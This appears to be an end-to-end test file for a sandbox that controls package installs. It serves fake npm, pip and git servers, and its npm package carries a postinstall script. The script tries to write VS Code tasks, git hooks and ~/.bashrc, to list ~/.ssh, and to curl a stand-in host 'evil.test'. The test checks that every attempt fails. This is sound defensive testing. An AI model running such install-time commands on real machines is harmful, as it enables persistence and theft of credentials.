import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { RequestListener } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect, it } from 'vitest';
import { describeWith } from '../../../../../../e2e/services.ts';
import { publicAddress } from '../../../../test/support/internet-fixture.ts';
import { sharedNetwork } from '../../../../test/support/network-fixture.ts';

const git = (cwd: string, ...words: string[]) =>
  execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b', ...words], { cwd, stdio: 'pipe' });

const files = (folder: string, texts: Record<string, string>) => {
  for (const [name, text] of Object.entries(texts)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text);
  }
};

/** What the install script of the npm package tries, and says on its standard output. */
const script = `
const { execSync } = require('node:child_process');
const said = (command) => { try { execSync(command, { stdio: 'ignore', shell: '/bin/sh' }); return 'done'; } catch { return 'failed'; } };
require('node:fs').writeFileSync('said', [
  said('mkdir -p ../../.vscode && echo x > ../../.vscode/tasks.json'),
  said('echo x > ../../.git/hooks/pre-commit'),
  said('echo x >> ~/.bashrc'),
  said('ls ~/.ssh'),
  said('curl -sf https://evil.test/?data'),
  said('curl -sf https://registry.npmjs.org/'),
].join(' '));
`;

/** A registry of npm, an index of pip and a repository of git, with one package each. */
const makeSites = (): RequestListener => {
  const folder = mkdtempSync(join(tmpdir(), 'sites-'));
  files(folder, {
    'package/package.json': JSON.stringify({
      name: 'left',
      version: '1.0.0',
      scripts: { postinstall: 'node script.js' },
    }),
    'package/script.js': script,
    'wheel/demo_pkg/__init__.py': 'word = "demo"\n',
    'wheel/demo_pkg-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0\n',
    'wheel/demo_pkg-1.0.dist-info/WHEEL':
      'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    'wheel/demo_pkg-1.0.dist-info/RECORD': '',
    'repository/file': 'hello',
  });
  execFileSync('tar', ['-czf', 'left.tgz', 'package'], { cwd: folder });
  execFileSync('python3', ['-m', 'zipfile', '-c', '../demo.whl', 'demo_pkg', 'demo_pkg-1.0.dist-info'], {
    cwd: join(folder, 'wheel'),
  });
  const repository = join(folder, 'repository');
  git(repository, 'init', '-q');
  git(repository, 'add', '.');
  git(repository, 'commit', '-qm', 'first');
  git(repository, 'update-server-info');
  const tarball = readFileSync(join(folder, 'left.tgz'));
  const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
  const dist = { tarball: 'https://registry.npmjs.org/left/-/left-1.0.0.tgz', integrity };
  const packument = {
    name: 'left',
    'dist-tags': { latest: '1.0.0' },
    versions: { '1.0.0': { name: 'left', version: '1.0.0', dist, hasInstallScript: true } },
  };
  const wheel = '/demo_pkg-1.0-py3-none-any.whl';
  const answers = new Map<string, [string, string | Buffer]>([
    ['/left', ['application/json', JSON.stringify(packument)]],
    ['/left/-/left-1.0.0.tgz', ['application/octet-stream', tarball]],
    [
      '/simple/demo-pkg/',
      ['text/html', `<a href="https://files.pythonhosted.org${wheel}">demo_pkg-1.0-py3-none-any.whl</a>`],
    ],
    [wheel, ['application/zip', readFileSync(join(folder, 'demo.whl'))]],
  ]);
  for (const name of execFileSync('find', ['.git', '-type', 'f'], { cwd: repository, encoding: 'utf8' })
    .trim()
    .split('\n'))
    answers.set(`/ada/demo${name.slice(4)}`, [
      'application/octet-stream',
      readFileSync(join(repository, name)),
    ]);
  rmSync(folder, { recursive: true });
  return (request, answer) => {
    const found = answers.get((request.url ?? '').replace(/\?.*/, ''));
    answer.writeHead(found === undefined ? 404 : 200, { 'content-type': found?.[0] ?? 'text/plain' });
    answer.end(found?.[1] ?? 'nothing');
  };
};

describeWith(
  'bubblewrap',
  'git',
  'python3',
)('installations', () => {
  const world = sharedNetwork(() => ({
    names: Object.fromEntries(
      ['registry.npmjs.org', 'pypi.org', 'files.pythonhosted.org', 'github.com'].map((name) => [
        name,
        [publicAddress],
      ]),
    ),
    site: makeSites(),
  }));

  it('SU-01, SU-02, SH-69 npm installs after one question, and again offline; its script does not leave the sandbox', async () => {
    const { run, root, questions } = world();
    files(root, { 'package.json': '{ "dependencies": {} }' });
    git(root, 'init', '-q');
    const installed = await run('npm install left --no-audit --no-fund', ['registry.npmjs.org']);
    expect([installed.exitCode, questions.length]).toEqual([0, 1]);
    expect(readFileSync(join(root, 'package.json'), 'utf8')).toContain('"left"');
    expect(readFileSync(join(root, 'node_modules/left/said'), 'utf8')).toBe(
      'failed failed failed failed failed failed',
    );
    expect(installed.notes?.join()).toContain('evil.test:443 was not asked for');
    const again = await run('npm ci --no-audit --no-fund --ignore-scripts', ['registry.npmjs.org']);
    expect(again.exitCode).toBe(0);
    expect((await run('rm -r node_modules; npm ci --ignore-scripts --no-audit')).exitCode).toBe(0);
  });

  it('SU-11 pip installs a wheel from two hosts after one question', async () => {
    const { run, questions } = world();
    const ended = await run(
      'python3 -m pip install -q --target lib demo-pkg; PYTHONPATH=lib python3 -c "import demo_pkg; print(demo_pkg.word)"',
      ['pypi.org', 'files.pythonhosted.org'],
    );
    expect([ended.stdout, questions.length]).toEqual(['demo\n', 1]);
  });

  it('SU-19 git clones a public repository after one question', async () => {
    const { run, questions } = world();
    const ended = await run('git clone -q https://github.com/ada/demo cloned && cat cloned/file', [
      'github.com',
    ]);
    expect([ended.stdout, questions.length]).toEqual(['hello', 1]);
  });
});
